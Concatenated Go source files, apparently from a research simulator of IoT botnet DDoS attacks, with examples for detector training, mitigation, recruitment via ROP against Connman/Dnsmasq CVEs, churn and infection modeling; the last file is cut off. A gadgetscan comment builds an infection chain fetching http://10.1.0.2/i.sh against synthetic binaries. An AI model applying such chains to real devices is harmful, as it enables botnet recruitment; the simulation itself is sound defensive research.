// Defense: the paper's §V-A use case — test a machine-learning DDoS
// detector inside the simulation. The run mixes benign telemetry
// traffic with a real botnet flood at TServer, extracts per-second
// traffic features, trains a logistic-regression classifier on the
// first part of the run, and evaluates detection on the rest.
package main

import (
	"fmt"
	"net/netip"
	"os"

	"ddosim/ddosim"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "defense:", err)
		os.Exit(1)
	}
}

func run() error {
	cfg := ddosim.DefaultConfig(40)
	cfg.AttackDuration = 120
	sim, err := ddosim.New(cfg)
	if err != nil {
		return err
	}

	// Instrument TServer and surround the attack with benign traffic.
	extractor := ddosim.NewTrafficExtractor(sim.TServer())
	dst := netip.AddrPortFrom(sim.TServer().Addr4(), 80)
	if err := ddosim.InstallBenignClients(sim.Star(), dst, 10, "telemetry"); err != nil {
		return err
	}

	results, err := sim.Run()
	if err != nil {
		return err
	}
	attackFrom := int64(results.AttackIssuedAt / ddosim.Second)
	attackTo := attackFrom + int64(cfg.AttackDuration)

	// Label windows by ground truth and split train/test by time.
	label := func(from, to int64) []ddosim.DetectorSample {
		var out []ddosim.DetectorSample
		for sec := from; sec < to; sec++ {
			out = append(out, ddosim.DetectorSample{
				X:      extractor.Window(sec).Slice(),
				Attack: sec >= attackFrom && sec < attackTo,
			})
		}
		return out
	}
	horizon := int64(cfg.SimDuration / ddosim.Second)
	split := attackFrom + int64(cfg.AttackDuration)/2
	train := label(2, split)
	test := label(split, horizon-60)

	detector := ddosim.TrainDetector(train, 200, 0.1, 1)
	c := ddosim.EvaluateDetector(detector, test)

	fmt.Println("=== Defense testing: logistic-regression DDoS detector ===")
	fmt.Println()
	fmt.Printf("attack window:   seconds %d-%d (%d bots)\n", attackFrom, attackTo, results.BotsAtCommand)
	fmt.Printf("training set:    %d windows   test set: %d windows\n", len(train), len(test))
	fmt.Printf("confusion:       TP=%d FP=%d TN=%d FN=%d\n", c.TP, c.FP, c.TN, c.FN)
	fmt.Printf("accuracy:        %.1f%%\n", 100*c.Accuracy())
	fmt.Printf("precision:       %.1f%%\n", 100*c.Precision())
	fmt.Printf("recall:          %.1f%%\n", 100*c.Recall())
	fmt.Printf("F1:              %.3f\n", c.F1())
	fmt.Println()
	fmt.Println("Features per window: packet rate, byte rate, mean packet size,")
	fmt.Println("distinct sources, source entropy — all extracted at TServer, the")
	fmt.Println("workflow §V-A describes for testing classifiers before deployment.")

	// Part two: *deploy* a mitigation and rerun the identical attack.
	unmitigated := results.DReceivedKbps
	sim2, err := ddosim.New(cfg)
	if err != nil {
		return err
	}
	rl := ddosim.InstallRateLimiter(sim2.TServer(), 4000, 16384, 300)
	if err := ddosim.InstallBenignClients(sim2.Star(),
		netip.AddrPortFrom(sim2.TServer().Addr4(), 80), 10, "telemetry"); err != nil {
		return err
	}
	results2, err := sim2.Run()
	if err != nil {
		return err
	}
	fmt.Println()
	fmt.Println("=== Mitigation deployed: per-source token-bucket firewall ===")
	fmt.Println()
	fmt.Printf("D_received without mitigation: %10.1f kbps\n", unmitigated)
	fmt.Printf("D_received with mitigation:    %10.1f kbps (%.0f%% reduction)\n",
		results2.DReceivedKbps, 100*(1-results2.DReceivedKbps/unmitigated))
	fmt.Printf("filter decisions:              %d accepted, %d dropped, %d sources blacklisted\n",
		rl.Accepted, rl.Dropped, rl.Blacklisted())
	return nil
}
