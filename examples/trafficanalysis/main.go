// Trafficanalysis: the measurement workflow the paper highlights —
// "DDoSim enables the extraction of network traffic at any layer"
// (§V-A). This example instruments TServer with a packet capture and
// a per-flow monitor during an attack with mixed benign traffic, then
// prints a Wireshark-style summary: top talkers, per-protocol volume,
// and a per-second rate table suitable for ML dataset generation.
package main

import (
	"fmt"
	"net/netip"
	"os"

	"ddosim/ddosim"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "trafficanalysis:", err)
		os.Exit(1)
	}
}

func run() error {
	cfg := ddosim.DefaultConfig(25)
	cfg.AttackDuration = 60
	sim, err := ddosim.New(cfg)
	if err != nil {
		return err
	}

	// Instrumentation: capture the last 50k packets, monitor flows.
	capture := ddosim.StartCapture(sim.TServer(), 50_000)
	flows := ddosim.InstallFlowMonitor(sim.TServer())
	if err := ddosim.InstallBenignClients(sim.Star(),
		netip.AddrPortFrom(sim.TServer().Addr4(), 80), 5, "sensor"); err != nil {
		return err
	}

	results, err := sim.Run()
	if err != nil {
		return err
	}

	fmt.Println("=== Traffic analysis at TServer ===")
	fmt.Println()
	fmt.Printf("packets observed:  %d (capture kept %d, rolled %d)\n",
		capture.Total(), len(capture.Entries()), capture.Dropped())
	fmt.Printf("distinct flows:    %d\n", flows.FlowCount())
	fmt.Printf("attack window:     %s for %d s, D_received %.1f kbps\n",
		results.AttackIssuedAt, cfg.AttackDuration, results.DReceivedKbps)
	fmt.Println()

	fmt.Println("top talkers (by bytes):")
	for i, talker := range flows.TopTalkers(8) {
		fmt.Printf("  %2d. %-22s %-5s %8d pkts %12d bytes %10.1f kbps\n",
			i+1, talker.Key.Src, talker.Key.Proto,
			talker.Stats.Packets, talker.Stats.Bytes, talker.Stats.Rate())
	}
	fmt.Println()

	// Per-second rate around the attack boundary: quiet, ramp,
	// steady — the labeled windows an ML pipeline would train on.
	from := int64(results.AttackIssuedAt/ddosim.Second) - 3
	fmt.Println("per-second received rate around the attack start (kbps):")
	series := sim.Sink().Series()
	for sec := from; sec < from+12; sec++ {
		marker := ""
		if sec == from+3 {
			marker = "  <- attack order"
		}
		fmt.Printf("  t=%4ds  %10.1f%s\n", sec, series.KbpsSeries(sec, sec+1)[0], marker)
	}
	fmt.Println()
	fmt.Println("The same data is exportable as CSV via `ddosim -out` or the")
	fmt.Println("internal/report package — the dataset-generation workflow of §V-A.")
	return nil
}
