// Validation: the paper's Fig. 4 methodology — run identical small
// fleets (1–19 Devs) through DDoSim and through an independently
// written physical-testbed model (802.11 DCF contention, shaped Pis,
// Wireshark-style measurement) and compare the two curves.
//
// This example drives the hardware model through the experiments
// harness, which pins the *same* sampled device rates on both
// substrates, exactly as the paper deploys the same Raspberry Pis in
// both scenarios.
package main

import (
	"fmt"
	"math"
	"os"

	"ddosim/internal/experiments"
)

func main() {
	rows, err := experiments.Fig4(experiments.Options{Seeds: []int64{1, 2}})
	if err != nil {
		fmt.Fprintln(os.Stderr, "validation:", err)
		os.Exit(1)
	}
	fmt.Println("=== Validation: DDoSim vs hardware-testbed model ===")
	fmt.Println()
	fmt.Print(experiments.RenderFig4(rows))

	var worst float64
	for _, r := range rows {
		if e := math.Abs(r.RelativeError); e > worst {
			worst = e
		}
	}
	fmt.Printf("\nworst divergence across the sweep: %.1f%%\n", 100*worst)
	if worst < 0.15 {
		fmt.Println("verdict: the two substrates agree — DDoSim reproduces the")
		fmt.Println("hardware testbed's behaviour within measurement noise (Fig. 4).")
	} else {
		fmt.Println("verdict: substrates diverge more than expected; inspect the sweep.")
	}
}
