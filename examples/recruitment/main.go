// Recruitment: the paper's R1 motivation made concrete. Recent IoT
// security legislation pushes vendors toward reasonable credentials,
// killing Mirai's classic dictionary vector — so attackers shift to
// memory-error exploitation, which credential hygiene cannot stop.
//
// This example recruits the same fleet twice: once with the classic
// credential vector (telnet scanning + dictionary), once with the
// paper's memory-error vector (ROP against Connman/Dnsmasq CVEs),
// across increasing credential hygiene.
package main

import (
	"fmt"
	"os"

	"ddosim/ddosim"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "recruitment:", err)
		os.Exit(1)
	}
}

func run() error {
	const devs = 24
	fmt.Println("=== Recruitment vectors vs credential hygiene ===")
	fmt.Println()
	fmt.Printf("%-22s %12s %15s %14s\n", "scenario", "weak creds", "infection rate", "bots at order")

	// The credential baseline at three hygiene levels.
	for _, weak := range []float64{1.0, 0.5, 0.0} {
		cfg := ddosim.DefaultConfig(devs)
		cfg.Vector = ddosim.VectorCredentials
		cfg.WeakCredFraction = weak
		cfg.AttackDuration = 30
		cfg.SimDuration = 900 * ddosim.Second
		cfg.RecruitTimeout = 600 * ddosim.Second
		cfg.ScanPeriod = ddosim.Second
		r, err := ddosim.Run(cfg)
		if err != nil {
			return err
		}
		fmt.Printf("%-22s %11.0f%% %14.0f%% %14d\n",
			"mirai dictionary", 100*weak, 100*r.InfectionRate(), r.BotsAtCommand)
	}

	// The memory-error vector: hygiene-independent.
	cfg := ddosim.DefaultConfig(devs)
	cfg.AttackDuration = 30
	r, err := ddosim.Run(cfg)
	if err != nil {
		return err
	}
	fmt.Printf("%-22s %12s %14.0f%% %14d\n",
		"memory error (ROP)", "n/a", 100*r.InfectionRate(), r.BotsAtCommand)

	// …unless the vendor rebuilds with PIE, the actual countermeasure.
	cfg = ddosim.DefaultConfig(devs)
	cfg.AttackDuration = 30
	cfg.Hardened = true
	cfg.RandomProtections = false
	r, err = ddosim.Run(cfg)
	if err != nil {
		return err
	}
	fmt.Printf("%-22s %12s %14.0f%% %14d\n",
		"memory error vs PIE", "n/a", 100*r.InfectionRate(), r.BotsAtCommand)

	fmt.Println()
	fmt.Println("Reading: credential hygiene (the legislation scenario) starves the")
	fmt.Println("dictionary vector but leaves memory-error recruitment at 100%. Only")
	fmt.Println("rebuilding the daemons as PIE (with ASLR) breaks the ROP chain —")
	fmt.Println("every exploit attempt then crashes the daemon instead.")
	return nil
}
