// Churnstudy: the paper's R3 churn question in miniature. Run the
// same 60-Dev attack under no churn, static churn, and dynamic churn
// (identical fleets, thanks to common random numbers) and show how
// membership dynamics erode attack magnitude.
package main

import (
	"fmt"
	"os"

	"ddosim/ddosim"
)

func main() {
	fmt.Println("=== Churn study: 60 Devs, 100 s attack, seeds 1-3 ===")
	fmt.Println()
	fmt.Printf("%-15s %14s %12s %12s %10s\n",
		"churn", "D_recv (kbps)", "departures", "rejoins", "ordered")

	for _, mode := range []ddosim.ChurnMode{
		ddosim.ChurnNone, ddosim.ChurnStatic, ddosim.ChurnDynamic,
	} {
		var dSum float64
		var departures, rejoins uint64
		var ordered int
		const seeds = 3
		for seed := int64(1); seed <= seeds; seed++ {
			cfg := ddosim.DefaultConfig(60)
			cfg.Seed = seed
			cfg.Churn = mode
			r, err := ddosim.Run(cfg)
			if err != nil {
				fmt.Fprintln(os.Stderr, "churnstudy:", err)
				os.Exit(1)
			}
			dSum += r.DReceivedKbps
			departures += r.ChurnDepartures
			rejoins += r.ChurnRejoins
			ordered += r.BotsAtCommand
		}
		fmt.Printf("%-15s %14.1f %12.1f %12.1f %10.1f\n",
			mode, dSum/seeds, float64(departures)/seeds, float64(rejoins)/seeds, float64(ordered)/seeds)
	}

	fmt.Println()
	fmt.Println("Reading: dynamic churn gives Devs repeated chances to leave, and a")
	fmt.Println("Dev that is offline when the C&C broadcasts the attack command")
	fmt.Println("never participates — even if it later rejoins (it missed the order).")
}
