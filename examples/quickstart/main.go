// Quickstart: run the paper's headline scenario end-to-end — 20 IoT
// Devs running vulnerable Connman/Dnsmasq builds are exploited through
// memory errors, infected with Mirai, and ordered to flood TServer —
// then print every measurement the framework collects.
package main

import (
	"fmt"
	"os"

	"ddosim/ddosim"
)

func main() {
	cfg := ddosim.DefaultConfig(20)
	cfg.AttackDuration = 60

	sim, err := ddosim.New(cfg)
	if err != nil {
		fmt.Fprintln(os.Stderr, "quickstart:", err)
		os.Exit(1)
	}
	results, err := sim.Run()
	if err != nil {
		fmt.Fprintln(os.Stderr, "quickstart:", err)
		os.Exit(1)
	}

	fmt.Println("=== DDoSim quickstart: 20 Devs, 60 s UDP-PLAIN flood ===")
	fmt.Println()
	fmt.Print(results.Summary())
	fmt.Println()

	// The kill chain, step by step.
	fmt.Println("kill chain:")
	for _, kind := range []string{
		ddosim.EventExploitHit, ddosim.EventBotJoined,
		ddosim.EventAttackOrder, ddosim.EventFloodStart,
	} {
		first, ok := results.Timeline.FirstOf(kind)
		if !ok {
			continue
		}
		fmt.Printf("  %-15s first at %8s (%d total)  e.g. %s\n",
			kind, first.At, results.Timeline.Count(kind), first.Actor)
	}

	// Per-second received rate at TServer over the attack window.
	from := int64(results.AttackIssuedAt / ddosim.Second)
	fmt.Printf("\nTServer per-second rate (kbps): %s\n",
		sim.Sink().Series().Sparkline(from, from+int64(cfg.AttackDuration)))
	fmt.Printf("answer to R2: %.0f%% of targeted Devs were recruited\n", 100*results.InfectionRate())
}
