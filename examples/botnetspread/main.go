// Botnetspread: the paper's §V-B use case — test mathematical models
// of botnet propagation against the simulation. The example measures
// DDoSim's cumulative infection curve, fits two epidemic models to it
// (the classic SI contact model and an external-force model), and
// reports which one the measured dynamics support.
package main

import (
	"fmt"
	"os"

	"ddosim/ddosim"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "botnetspread:", err)
		os.Exit(1)
	}
}

func run() error {
	const devs = 80
	cfg := ddosim.DefaultConfig(devs)
	// An all-Connman fleet with a slowed query period: each Dev is
	// exploited when its own jittered DNS query fires, so infections
	// arrive one at a time — a curve worth fitting. (The DHCPv6
	// channel would infect every Dnsmasq Dev in one multicast burst.)
	cfg.ConnmanFraction = 1
	cfg.ConnmanQueryPeriod = 25 * ddosim.Second
	cfg.RecruitTimeout = 150 * ddosim.Second

	sim, err := ddosim.New(cfg)
	if err != nil {
		return err
	}
	results, err := sim.Run()
	if err != nil {
		return err
	}

	curve := ddosim.InfectionCurveFromTimeline(results.Timeline)
	if len(curve.Times) == 0 {
		return fmt.Errorf("no infections recorded")
	}
	horizon := curve.Times[len(curve.Times)-1] + 5

	lambda, rmseExt := ddosim.FitInfectionLambda(curve, devs, horizon)
	beta, rmseSI := ddosim.FitInfectionBeta(curve, devs, horizon)

	fmt.Println("=== Botnet-spread modeling: fitting epidemic models to DDoSim ===")
	fmt.Println()
	fmt.Printf("fleet: %d Devs, %d infected by t=%.0fs\n", devs, results.Infected, horizon)
	fmt.Println()
	fmt.Printf("external-force model  dI/dt = λ(N−I):   λ = %.4f /s,  RMSE = %.2f devices\n", lambda, rmseExt)
	fmt.Printf("SI contact model      dI/dt = βSI/N:    β = %.4f /s,  RMSE = %.2f devices\n", beta, rmseSI)
	fmt.Println()

	// Show measured vs best-fit model at a few checkpoints.
	times, infected := ddosim.SimulateExternalInfection(lambda, devs, 0.05, horizon)
	fmt.Println("  t(s)   measured   fitted(ext)")
	for k := 0; k < len(curve.Times); k += max(1, len(curve.Times)/8) {
		t := curve.Times[k]
		fitted := interp(times, infected, t)
		fmt.Printf("  %5.1f  %9d  %12.1f\n", t, curve.Counts[k], fitted)
	}
	fmt.Println()
	if rmseExt < rmseSI {
		fmt.Println("verdict: the external-force model fits better — as expected, since")
		fmt.Println("DDoSim's infection radiates from one Attacker rather than spreading")
		fmt.Println("bot-to-bot, the curve is concave (no sigmoidal takeoff).")
	} else {
		fmt.Println("verdict: the SI contact model fits better on this run.")
	}
	return nil
}

func interp(times, values []float64, t float64) float64 {
	for i := 1; i < len(times); i++ {
		if times[i] >= t {
			frac := (t - times[i-1]) / (times[i] - times[i-1])
			return values[i-1] + frac*(values[i]-values[i-1])
		}
	}
	if len(values) == 0 {
		return 0
	}
	return values[len(values)-1]
}

func max(a, b int) int {
	if a > b {
		return a
	}
	return b
}
