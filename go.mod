module ddosim

go 1.22
