// Command gadgetscan inspects the gadget tables of the synthetic IoT
// binary images — the simulation's counterpart of running ROPgadget
// over a stripped firmware binary — and optionally assembles the
// standard infection chain against one of them.
//
// Examples:
//
//	gadgetscan -bin connmand
//	gadgetscan -bin dnsmasq -chain http://10.1.0.2/i.sh
package main

import (
	"flag"
	"fmt"
	"os"

	"ddosim/internal/binaries/image"
	"ddosim/internal/exploit"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "gadgetscan:", err)
		os.Exit(1)
	}
}

func run() error {
	var (
		bin      = flag.String("bin", image.BinConnman, "binary to scan: connmand|dnsmasq")
		chainURL = flag.String("chain", "", "also build the infection ROP chain for this ShellScript URL")
	)
	flag.Parse()

	prog, ok := image.ByName(*bin)
	if !ok {
		return fmt.Errorf("no program image for %q", *bin)
	}
	fmt.Printf("%s (%s)\n", prog.Name, prog.Arch)
	fmt.Printf("  PIE:        %v\n", prog.PIE)
	fmt.Printf("  link base:  %#x\n", prog.LinkBase)
	fmt.Printf("  text size:  %#x\n", prog.TextSize)
	bufSize, err := exploit.BufSizeFor(*bin)
	if err != nil {
		return err
	}
	fmt.Printf("  vuln buf:   %d bytes\n\n", bufSize)

	fmt.Println("gadgets:")
	for _, g := range exploit.Scan(prog) {
		fmt.Printf("  %#08x  %-20s (%d ops)\n", prog.LinkBase+g.Offset, g.Name, g.Ops)
	}

	if *chainURL != "" {
		payload, err := exploit.ForBinary(*bin, *chainURL)
		if err != nil {
			return err
		}
		fmt.Printf("\ninfection chain (%d bytes): %s\n", len(payload), exploit.InfectionCommand(*chainURL))
		for i := 0; i < len(payload); i += 16 {
			end := i + 16
			if end > len(payload) {
				end = len(payload)
			}
			fmt.Printf("  %04x  % x\n", i, payload[i:end])
		}
	}
	return nil
}
