// Command benchjson runs the repository's benchmark workloads at
// reduced scale and writes machine-readable BENCH_*.json files — the
// CI-friendly counterpart of `go test -bench`. Each file holds one
// suite: the end-to-end kill chain across fleet sizes (with the
// observability layer's own accounting of where kernel time went) and
// the raw discrete-event kernel throughput.
//
// Examples:
//
//	benchjson                 # write BENCH_killchain.json, BENCH_scheduler.json
//	benchjson -out results/   # write them elsewhere
//	benchjson -devs 10,50,100 -seeds 3
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"time"

	"ddosim/ddosim"
	"ddosim/internal/sim"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
}

// killChainRow is one end-to-end measurement: simulation outcomes plus
// the cost of producing them.
type killChainRow struct {
	Devs            int     `json:"devs"`
	Seed            int64   `json:"seed"`
	Queue           string  `json:"queue"`
	WallMS          float64 `json:"wall_ms"`
	SimSeconds      float64 `json:"sim_seconds"`
	EventsProcessed uint64  `json:"events_processed"`
	EventsPerSec    float64 `json:"events_per_wall_sec"`
	PeakPending     int     `json:"peak_pending"`
	WallNSPerSimSec int64   `json:"wall_ns_per_sim_sec"`
	AllocsPerEvent  float64 `json:"allocs_per_event"`
	Infected        int     `json:"infected"`
	DReceivedKbps   float64 `json:"d_received_kbps"`
	TraceEvents     int     `json:"trace_events"`
}

// schedRow is one kernel-throughput measurement: a self-rescheduling
// event chain with no simulation payload.
type schedRow struct {
	Events         int     `json:"events"`
	Queue          string  `json:"queue"`
	WallMS         float64 `json:"wall_ms"`
	EventsPerSec   float64 `json:"events_per_wall_sec"`
	NSPerEvent     float64 `json:"ns_per_event"`
	AllocsPerEvent float64 `json:"allocs_per_event"`
}

type suite struct {
	Name      string `json:"name"`
	GoVersion string `json:"go_version"`
	Rows      any    `json:"rows"`
}

func run() error {
	var (
		outDir   = flag.String("out", ".", "directory to write BENCH_*.json into")
		devsList = flag.String("devs", "10,30,50", "comma-separated fleet sizes for the kill-chain suite")
		seeds    = flag.Int("seeds", 1, "seeds per fleet size")
	)
	flag.Parse()

	var devCounts []int
	for _, s := range strings.Split(*devsList, ",") {
		n, err := strconv.Atoi(strings.TrimSpace(s))
		if err != nil {
			return fmt.Errorf("bad -devs entry %q: %w", s, err)
		}
		devCounts = append(devCounts, n)
	}

	kill, err := benchKillChain(devCounts, *seeds)
	if err != nil {
		return err
	}
	if err := writeSuite(*outDir, "BENCH_killchain.json", "killchain", kill); err != nil {
		return err
	}
	if err := writeSuite(*outDir, "BENCH_scheduler.json", "scheduler", benchScheduler()); err != nil {
		return err
	}
	return nil
}

// benchKillChain times one complete build-exploit-infect-flood-measure
// cycle per (devs, seed, queue backend), reading the kernel cost
// breakdown from the run's own profiler and the allocation rate from
// the runtime's mallocs counter.
func benchKillChain(devCounts []int, seeds int) ([]killChainRow, error) {
	var rows []killChainRow
	for _, devs := range devCounts {
		for seed := int64(1); seed <= int64(seeds); seed++ {
			for _, queue := range []ddosim.QueueKind{ddosim.QueueHeap, ddosim.QueueCalendar} {
				cfg := ddosim.DefaultConfig(devs)
				cfg.Seed = seed
				cfg.SchedQueue = queue
				cfg.SimDuration = 300 * ddosim.Second
				cfg.AttackDuration = 30
				cfg.RecruitTimeout = 60 * ddosim.Second

				s, err := ddosim.New(cfg)
				if err != nil {
					return nil, err
				}
				start := time.Now()
				mallocs0 := mallocCount()
				r, err := s.Run()
				if err != nil {
					return nil, err
				}
				mallocs := mallocCount() - mallocs0
				wall := time.Since(start)

				sum := r.Obs
				row := killChainRow{
					Devs:            devs,
					Seed:            seed,
					Queue:           string(queue),
					WallMS:          float64(wall.Microseconds()) / 1000,
					SimSeconds:      cfg.SimDuration.Seconds(),
					EventsProcessed: sum.EventsDelivered,
					PeakPending:     sum.PeakPending,
					WallNSPerSimSec: sum.WallNSPerSimSec,
					Infected:        r.Infected,
					DReceivedKbps:   r.DReceivedKbps,
					TraceEvents:     sum.TraceEvents,
				}
				if sum.EventsDelivered > 0 {
					row.AllocsPerEvent = float64(mallocs) / float64(sum.EventsDelivered)
				}
				if secs := wall.Seconds(); secs > 0 {
					row.EventsPerSec = float64(sum.EventsDelivered) / secs
				}
				rows = append(rows, row)
			}
		}
	}
	return rows, nil
}

// mallocCount reads the runtime's cumulative heap-allocation counter.
func mallocCount() uint64 {
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.Mallocs
}

// benchScheduler measures raw kernel throughput: a chain of
// self-rescheduling no-op events, the simulator's fundamental cost
// floor.
func benchScheduler() []schedRow {
	var rows []schedRow
	for _, events := range []int{100_000, 1_000_000} {
		for _, queue := range []sim.QueueKind{sim.QueueHeap, sim.QueueCalendar} {
			sched := sim.NewSchedulerQueue(1, queue)
			left := events
			var tick func()
			tick = func() {
				left--
				if left > 0 {
					sched.Schedule(sim.Microsecond, tick)
				}
			}
			sched.Schedule(0, tick)
			start := time.Now()
			mallocs0 := mallocCount()
			if err := sched.RunAll(); err != nil {
				continue
			}
			mallocs := mallocCount() - mallocs0
			wall := time.Since(start)
			row := schedRow{
				Events:         events,
				Queue:          string(queue),
				WallMS:         float64(wall.Microseconds()) / 1000,
				AllocsPerEvent: float64(mallocs) / float64(events),
			}
			if secs := wall.Seconds(); secs > 0 {
				row.EventsPerSec = float64(events) / secs
				row.NSPerEvent = float64(wall.Nanoseconds()) / float64(events)
			}
			rows = append(rows, row)
		}
	}
	return rows
}

func writeSuite(dir, file, name string, rows any) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	path := filepath.Join(dir, file)
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	enc := json.NewEncoder(f)
	enc.SetIndent("", "  ")
	if err := enc.Encode(suite{Name: name, GoVersion: runtime.Version(), Rows: rows}); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	fmt.Printf("wrote %s\n", path)
	return nil
}
