// Command benchjson runs the repository's benchmark workloads at
// reduced scale and writes machine-readable BENCH_*.json files — the
// CI-friendly counterpart of `go test -bench`. Each file holds one
// suite: the end-to-end kill chain across fleet sizes (with the
// observability layer's own accounting of where kernel time went),
// the raw discrete-event kernel throughput, and the UDP-flood send
// path with flow accounting off vs on.
//
// Examples:
//
//	benchjson                 # write BENCH_killchain.json, BENCH_scheduler.json, BENCH_flood.json, BENCH_lint.json (+ _before pairs)
//	benchjson -out results/   # write them elsewhere
//	benchjson -devs 10,50,100 -seeds 3
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"time"

	"ddosim/ddosim"
	"ddosim/internal/lint"
	"ddosim/internal/netsim"
	"ddosim/internal/obs"
	"ddosim/internal/sim"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
}

// killChainRow is one end-to-end measurement: simulation outcomes plus
// the cost of producing them.
type killChainRow struct {
	Devs            int     `json:"devs"`
	Seed            int64   `json:"seed"`
	Queue           string  `json:"queue"`
	Shards          int     `json:"shards"`
	WallMS          float64 `json:"wall_ms"`
	SimSeconds      float64 `json:"sim_seconds"`
	EventsProcessed uint64  `json:"events_processed"`
	EventsPerSec    float64 `json:"events_per_wall_sec"`
	PeakPending     int     `json:"peak_pending"`
	WallNSPerSimSec int64   `json:"wall_ns_per_sim_sec"`
	AllocsPerEvent  float64 `json:"allocs_per_event"`
	Infected        int     `json:"infected"`
	DReceivedKbps   float64 `json:"d_received_kbps"`
	TraceEvents     int     `json:"trace_events"`
}

// schedRow is one kernel-throughput measurement: a self-rescheduling
// event chain with no simulation payload.
type schedRow struct {
	Events         int     `json:"events"`
	Queue          string  `json:"queue"`
	WallMS         float64 `json:"wall_ms"`
	EventsPerSec   float64 `json:"events_per_wall_sec"`
	NSPerEvent     float64 `json:"ns_per_event"`
	AllocsPerEvent float64 `json:"allocs_per_event"`
}

// floodRow is one UDP-flood hot-path measurement: per-packet cost of
// the send path with flow accounting off vs on.
type floodRow struct {
	Packets         int     `json:"packets"`
	FlowsEnabled    bool    `json:"flows_enabled"`
	Shards          int     `json:"shards"`
	WallMS          float64 `json:"wall_ms"`
	NSPerPacket     float64 `json:"ns_per_packet"`
	AllocsPerPacket float64 `json:"allocs_per_packet"`
	FlowsExported   uint64  `json:"flows_exported"`
}

type suite struct {
	Name      string `json:"name"`
	GoVersion string `json:"go_version"`
	Rows      any    `json:"rows"`
}

func run() error {
	var (
		outDir     = flag.String("out", ".", "directory to write BENCH_*.json into")
		devsList   = flag.String("devs", "10,30,50", "comma-separated fleet sizes for the kill-chain suite")
		seeds      = flag.Int("seeds", 1, "seeds per fleet size")
		shardsList = flag.String("shards", "0,1,2,4,8", "comma-separated shard counts for the kill-chain scaling curve (0 = classic kernel)")
		megaDevs   = flag.Int("mega-devs", 0, "when > 0, append one reduced-horizon kill-chain row at this fleet size per shard count (classic + max shards)")
	)
	flag.Parse()

	parseInts := func(list, name string) ([]int, error) {
		var out []int
		for _, s := range strings.Split(list, ",") {
			n, err := strconv.Atoi(strings.TrimSpace(s))
			if err != nil {
				return nil, fmt.Errorf("bad -%s entry %q: %w", name, s, err)
			}
			out = append(out, n)
		}
		return out, nil
	}
	devCounts, err := parseInts(*devsList, "devs")
	if err != nil {
		return err
	}
	shardCounts, err := parseInts(*shardsList, "shards")
	if err != nil {
		return err
	}

	kill, err := benchKillChain(devCounts, *seeds, shardCounts)
	if err != nil {
		return err
	}
	if *megaDevs > 0 {
		mega, err := benchMegaKillChain(*megaDevs, shardCounts)
		if err != nil {
			return err
		}
		kill = append(kill, mega...)
	}
	if err := writeSuite(*outDir, "BENCH_killchain.json", "killchain", kill); err != nil {
		return err
	}
	if err := writeSuite(*outDir, "BENCH_scheduler.json", "scheduler", benchScheduler()); err != nil {
		return err
	}
	// The flood suite writes its own before/after pair: _before pins
	// the send path without flow accounting, the main file carries both
	// variants (and the sharded mailbox path) so the overhead is a
	// one-file diff.
	off, on := benchFlood(false, 0), benchFlood(true, 0)
	offSh, onSh := benchFlood(false, 2), benchFlood(true, 2)
	if err := writeSuite(*outDir, "BENCH_flood_before.json", "flood", []floodRow{off}); err != nil {
		return err
	}
	if err := writeSuite(*outDir, "BENCH_flood.json", "flood", []floodRow{off, on, offSh, onSh}); err != nil {
		return err
	}
	// The lint suite analyzes the module's own source, so it only runs
	// when benchjson is invoked from inside the repo; elsewhere the
	// other suites still work. Like the flood suite it writes a
	// before/after pair: _before times the suite without allocfree
	// (the previous analyzer set), the main file carries the full
	// suite plus one timing row per analyzer.
	if lintBefore, lintAfter, err := benchLint(); err != nil {
		fmt.Fprintf(os.Stderr, "benchjson: skipping lint suite: %v\n", err)
	} else if err := writeSuite(*outDir, "BENCH_lint_before.json", "lint", lintBefore); err != nil {
		return err
	} else if err := writeSuite(*outDir, "BENCH_lint.json", "lint", lintAfter); err != nil {
		return err
	}
	return nil
}

// lintRow is one static-analysis measurement: the cost of loading and
// type-checking the module vs the cost of the analyzers themselves
// (the reachability engines — shard-confinement and
// allocation-reachability — dominate the latter). A row with an empty
// Analyzer times a whole suite; a named row times that analyzer run
// standalone on a fresh engine, so engine-backed siblings (pktown and
// stalecapture, shardconfine and crossnode) each carry their shared
// engine's full cost rather than splitting it.
type lintRow struct {
	Analyzer      string  `json:"analyzer,omitempty"`
	Packages      int     `json:"packages,omitempty"`
	Analyzers     int     `json:"analyzers"`
	Diags         int     `json:"diags"`
	InventoryRows int     `json:"inventory_rows,omitempty"`
	LoadMS        float64 `json:"load_ms,omitempty"`
	AnalyzeMS     float64 `json:"analyze_ms"`
	InventoryMS   float64 `json:"inventory_ms,omitempty"`
}

// benchLint runs the default suite over the whole module — the same
// work `go run ./cmd/simlint ./...` does in CI — plus the inventory
// build and one standalone timing per analyzer. The before slice
// times the suite with allocfree removed, pinning what the new
// analyzer costs on top of the previous set.
func benchLint() (before, after []lintRow, err error) {
	l, err := lint.NewLoader(".")
	if err != nil {
		return nil, nil, err
	}
	start := time.Now()
	pkgs, err := l.LoadAll(".")
	if err != nil {
		return nil, nil, err
	}
	loadMS := float64(time.Since(start).Microseconds()) / 1000

	measure := func(suite []lint.Analyzer) (int, float64) {
		start := time.Now()
		diags := lint.Run(pkgs, suite)
		return len(diags), float64(time.Since(start).Microseconds()) / 1000
	}

	full := lint.DefaultSuite()
	nDiags, analyzeMS := measure(full)
	start = time.Now()
	inv := lint.BuildInventory(pkgs)
	inventoryMS := float64(time.Since(start).Microseconds()) / 1000

	after = []lintRow{{
		Packages:      len(pkgs),
		Analyzers:     len(full),
		Diags:         nDiags,
		InventoryRows: len(inv),
		LoadMS:        loadMS,
